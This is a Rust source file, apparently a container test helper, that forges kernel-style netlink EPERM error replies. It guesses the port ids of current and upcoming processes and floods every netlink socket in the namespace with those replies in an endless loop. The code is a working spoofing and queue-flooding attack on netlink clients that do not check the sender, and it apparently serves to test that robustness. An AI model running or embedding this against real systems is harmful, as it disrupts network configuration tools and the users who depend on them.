//! A program in a container that sends errors as the kernel's to all netlink sockets of the namespace: `--forger`.

use std::fs;
use std::io;
use std::os::fd::{AsRawFd, OwnedFd};

use nix::sys::socket::{
    AddressFamily, MsgFlags, NetlinkAddr, SockFlag, SockProtocol, SockType, bind, sendto, socket,
};

/// Answers to requests with these sequence numbers.
const REQUESTS: u32 = 400;
/// So often that the queue of a socket is full.
const TIMES: usize = 20;

pub fn forge() -> io::Result<()> {
    let errors: Vec<u8> = (0..REQUESTS).flat_map(error).collect();
    let protocols = [SockProtocol::NetlinkRoute, SockProtocol::NetlinkNetFilter];
    let sockets = protocols.map(open).into_iter().collect::<io::Result<Vec<_>>>()?;
    loop {
        for port in ports()? {
            for socket in &sockets {
                let to = NetlinkAddr::new(port, 0);
                // Perhaps there is no such socket, or its queue is full.
                let _ = sendto(socket.as_raw_fd(), &errors, &to, MsgFlags::MSG_DONTWAIT);
            }
        }
    }
}

fn open(protocol: SockProtocol) -> io::Result<OwnedFd> {
    let kind = SockType::Raw;
    let socket = socket(AddressFamily::Netlink, kind, SockFlag::SOCK_CLOEXEC, protocol)?;
    bind(socket.as_raw_fd(), &NetlinkAddr::new(0, 0))?;
    Ok(socket)
}

/// NLMSG_ERROR with EPERM: `struct nlmsghdr` and `struct nlmsgerr` of linux/netlink.h.
fn error(sequence: u32) -> Vec<u8> {
    let header = |length: u32, kind: u16| {
        let kind = u32::from(kind);
        [length.to_ne_bytes(), kind.to_ne_bytes(), sequence.to_ne_bytes(), [0; 4]].concat()
    };
    [header(36, 2), (-1_i32).to_ne_bytes().to_vec(), header(16, 16)].concat()
}

/// The sockets that there are, and those of the next processes: the kernel gives a socket the id of its process.
fn ports() -> io::Result<Vec<u32>> {
    let text = fs::read_to_string("/proc/loadavg")?;
    let newest: u32 = text.trim().rsplit(' ').next().unwrap_or_default().parse().unwrap_or(1);
    let mut ports: Vec<u32> = (newest.saturating_sub(8).max(1)..newest + 24).collect();
    let sockets = fs::read_to_string("/proc/thread-self/net/netlink")?;
    for line in sockets.lines().skip(1) {
        let port = line.split_whitespace().nth(2).and_then(|word| word.parse().ok()).unwrap_or(0);
        ports.extend([port].repeat(TIMES).iter().filter(|port| **port != 0));
    }
    Ok(ports)
}
